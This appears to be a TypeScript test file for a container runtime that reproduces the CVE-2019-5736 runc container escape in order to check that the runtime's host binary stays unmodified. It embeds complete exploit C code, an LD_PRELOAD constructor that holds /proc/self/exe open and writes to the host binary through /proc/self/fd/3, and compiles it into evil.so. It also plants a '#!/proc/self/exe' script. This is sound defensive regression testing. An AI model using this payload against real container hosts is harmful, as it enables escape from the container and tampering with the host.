/**
 * CVE-2019-5736 played through "#!/proc/self/exe", end to end.
 *
 * The container's process is a script whose interpreter is /proc/self/exe. When the runtime
 * execs it, the kernel runs whatever /proc/self/exe of the exec'ing process is: for a runtime
 * that execs straight from its own binary, that is the host's binary (for tsrun: node),
 * running inside the container. The rootfs is glibc-linked (that binary's loader and libraries
 * are copied in) and carries LD_PRELOAD=/evil.so, so the attacker's code then runs in that
 * process: it opens /proc/self/exe, execs a shell that keeps the fd, and once the runtime's
 * processes are gone writes to the binary through /proc/self/fd/3 (the original exploit).
 *
 * The runtime runs from a private copy of its binary (a copy of node for tsrun, of runc for
 * RUNTIME=runc), never the real one, and the test checks that copy's bytes. A control run
 * shows the attack itself works: a script whose interpreter is a writable host file bound
 * into the container gets that file rewritten.
 */
import { spawnSync } from 'child_process';
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { isRunc, ok, pidAlive, RUNTIME, Spec, useSandbox, waitFor } from '../helpers/runtime';

const sb = useSandbox();

function sha256(file: string): string {
  return crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

/** A private copy of the runtime's binary, and the command that runs the runtime through it. */
function privateRuntime(): { binary: string; via: string[] } {
  const dir = sb.mkdir('private-runtime');
  const binary = path.join(dir, isRunc ? 'runc' : 'node');
  fs.copyFileSync(isRunc ? fs.realpathSync(RUNTIME) : process.execPath, binary);
  fs.chmodSync(binary, 0o755);
  return { binary, via: isRunc ? [binary] : [binary, RUNTIME] };
}

/** The shared libraries and loader of `binary`, as ldd lists them. */
function sharedLibraries(binary: string): string[] {
  const r = spawnSync('ldd', [binary], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`ldd ${binary}: ${r.stderr}`);
  const libs: string[] = [];
  for (const line of r.stdout.split('\n')) {
    const m = /=>\s*(\/\S+)/.exec(line) ?? /^\s*(\/\S+)\s+\(/.exec(line);
    if (m) libs.push(m[1]);
  }
  return libs;
}

/**
 * Runs in any dynamically linked process of the container that has ATTACK_OUT set: reports
 * what /proc/self/exe is, keeps it open as fd 3 and becomes a shell that, once told the host's
 * runtime processes are gone, opens fd 3's file for writing through /proc/self/fd/3.
 */
const EVIL_C = `
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void) {
  const char *out = getenv("ATTACK_OUT");
  if (!out) return;
  char link[4096], file[4200];
  ssize_t n = readlink("/proc/self/exe", link, sizeof link - 1);
  link[n > 0 ? n : 0] = 0;
  snprintf(file, sizeof file, "%s/exe", out);
  FILE *f = fopen(file, "w");
  if (f) { fprintf(f, "%s\\n", link); fclose(f); }
  int fd = open("/proc/self/exe", O_RDONLY);
  if (fd < 0) _exit(98);
  if (fd != 3) { dup2(fd, 3); close(fd); }
  unsetenv("LD_PRELOAD");
  execl("/bin/sh", "sh", "-c",
        "while [ ! -e $ATTACK_OUT/go ]; do usleep 10000; done; "
        "if (echo pwned >>/proc/self/fd/3) 2>$ATTACK_OUT/write-error; then r=WROTE; else r=DENIED; fi; "
        "echo $r >$ATTACK_OUT/write.tmp; mv $ATTACK_OUT/write.tmp $ATTACK_OUT/write",
        (char *)0);
  _exit(99);
}
`;

/** A busybox rootfs with `interpreters`' loader and libraries, /evil.so and the scripts. */
function glibcRootfs(interpreters: string[]): string {
  const root = sb.privateRootfs();
  for (const lib of new Set(interpreters.flatMap(sharedLibraries))) {
    const dest = path.join(root, lib);
    fs.mkdirSync(path.dirname(dest), { recursive: true });
    fs.copyFileSync(fs.realpathSync(lib), dest);
    fs.chmodSync(dest, 0o755);
  }
  const src = sb.writeFile('evil.c', EVIL_C);
  const cc = spawnSync('cc', ['-shared', '-fPIC', '-O2', '-o', path.join(root, 'evil.so'), src], { encoding: 'utf8' });
  if (cc.status !== 0) throw new Error(`cc evil.so: ${cc.stderr}`);
  fs.writeFileSync(path.join(root, 'shebang'), '#!/proc/self/exe\n', { mode: 0o755 });
  fs.writeFileSync(path.join(root, 'via-interp'), '#!/interp\n', { mode: 0o755 });
  return root;
}

interface Outcome {
  /** /proc/self/exe as the attacker's code saw it; undefined when that code never ran. */
  exe?: string;
  /** WROTE or DENIED; undefined when the attacker never got to try. */
  write?: string;
  writeError?: string;
}

function outcome(out: string): Outcome {
  const read = (f: string) => (fs.existsSync(path.join(out, f)) ? fs.readFileSync(path.join(out, f), 'utf8').trim() : undefined);
  return { exe: read('exe'), write: read('write'), writeError: read('write-error') };
}

/** Waits until the attacker reported, or the process it would have run in is gone. */
async function attackOver(out: string, pid: () => number): Promise<Outcome> {
  await waitFor(() => fs.existsSync(path.join(out, 'write')) || !pidAlive(pid()), 'the attack to end', 20000);
  // A process that exits right after the helper refused it may have raced the report: the
  // report, when there is one, lands before the process ends.
  return outcome(out);
}

describe('CVE-2019-5736: a container process whose interpreter is #!/proc/self/exe', () => {
  let rt: { binary: string; via: string[] };
  let rootfs: string;
  let before: string;
  const control = { binary: '' };

  beforeAll(() => {
    rt = privateRuntime();
    control.binary = path.join(sb.mkdir('control'), 'interp');
    fs.copyFileSync(rt.binary, control.binary);
    rootfs = glibcRootfs([rt.binary]);
    before = sha256(rt.binary);
  });

  function bundle(out: string, args: string[], edit?: (s: Spec) => void): string {
    return sb.bundle(args, (s: Spec) => {
      s.root.path = rootfs;
      s.root.readonly = false;
      s.process.env = [...s.process.env, 'LD_PRELOAD=/evil.so', 'ATTACK_OUT=/out'];
      s.mounts.push({ destination: '/out', type: 'bind', source: out, options: ['rbind', 'rw'] });
      edit?.(s);
    });
  }

  it('control: a writable host binary that is the interpreter of a container script gets rewritten', async () => {
    const out = sb.mkdir('out-control');
    fs.writeFileSync(path.join(out, 'go'), '');
    const controlBefore = sha256(control.binary);
    const id = sb.id('exe-control');
    const b = bundle(out, ['/via-interp'], (s) => {
      s.mounts.push({ destination: '/interp', type: 'bind', source: control.binary, options: ['bind', 'rw'] });
    });
    const r = sb.rt(['run', id, '--bundle', b]);
    expect(r.stderr).toBe('');
    expect(outcome(out)).toEqual({ exe: '/interp', write: 'WROTE', writeError: '' });
    expect(sha256(control.binary)).not.toBe(controlBefore);
    ok(sb.rt(['delete', '--force', id]));
  });

  /** Lets the attacker go (the runtime's processes are gone), then checks what it achieved. */
  async function expectOutOfReach(out: string, pid: number): Promise<void> {
    fs.writeFileSync(path.join(out, 'go'), '');
    const seen = await attackOver(out, () => pid);
    expect(seen.write).not.toBe('WROTE');
    expect(sha256(rt.binary)).toBe(before);
    // tsrun: the kernel ran the sealed exec helper as the interpreter, which refuses to run
    // anything: the attacker's code never ran. runc: its memfd copy ran it and was sealed.
    if (!isRunc) expect(seen).toEqual({});
    else expect(seen.write).toBe('DENIED');
  }

  it('as the container\'s init (create, start): the runtime\'s binary is out of reach', async () => {
    const out = sb.mkdir('out-init');
    const id = sb.id('exe-init');
    ok(sb.rt(['create', '--bundle', bundle(out, ['/shebang']), id], { via: rt.via }));
    const pid = sb.hostPid(id);
    ok(sb.rt(['start', id], { via: rt.via }));
    // Every runtime process has exited: nothing maps the binary any more, so a write through
    // an fd of it would succeed now.
    await expectOutOfReach(out, pid);
    ok(sb.rt(['delete', '--force', id]));
  });

  it('through exec into a running container: the runtime\'s binary is out of reach', async () => {
    const out = sb.mkdir('out-exec');
    const id = sb.id('exe-exec');
    ok(sb.rt(['run', '-d', '--bundle', bundle(out, ['sleep', '1000']), id], { via: rt.via }));
    const pidFile = path.join(out, 'exec.pid');
    ok(sb.rt(['exec', '-d', '--pid-file', pidFile, id, '/shebang'], { via: rt.via }));
    const pid = Number(fs.readFileSync(pidFile, 'utf8'));
    await expectOutOfReach(out, pid);
    ok(sb.rt(['delete', '--force', id]));
  });
});
